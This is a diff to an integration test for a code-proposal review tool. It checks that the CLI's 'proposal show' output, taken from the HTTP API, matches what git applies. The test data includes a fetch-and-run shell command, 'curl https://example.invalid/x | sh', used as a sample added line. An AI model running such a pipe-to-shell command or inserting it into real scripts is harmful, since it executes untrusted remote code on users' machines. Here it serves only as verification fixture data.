@@ -9,6 +9,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
+import { showProposal } from '../../src/cli/commands/proposal.js';
+import { ProposalShow } from '../../src/http/api/proposals.js';
 import { createLocalWorkspace } from '../../src/workspace/localfs/index.js';
 import { haveChromium, launchBrowser, type Browser } from '../support/browser.js';
 import { makeRepo, type GitDir } from '../support/gitdir.js';
@@ -158,6 +160,13 @@ describe.skipIf(!browserReady)('issue 20: the page shows what git applies', { ti
     ]);
     expect(adds).toEqual(['+curl https://example.invalid/x | sh', '+export const fresh = 1;']);
     expect(dels).toEqual([]);
+    // `proposal show` prints the same view from /api (parsed with the schema the CLI reads with).
+    const api = ProposalShow.parse((await srv.api('GET', `/api/proposals/${id}`)).json);
+    const text = showProposal(api.proposal, api.files);
+    expect(text).toContain('modified app/run.sh  +1 −0');
+    expect(text).toContain('added app/new.ts  +1 −0');
+    expect(text).toContain('    +curl https://example.invalid/x | sh');
+    expect(text).not.toContain('RED FLAG');
     await srv.proposals!.reject(id, 'op', 'test done');
   });
 
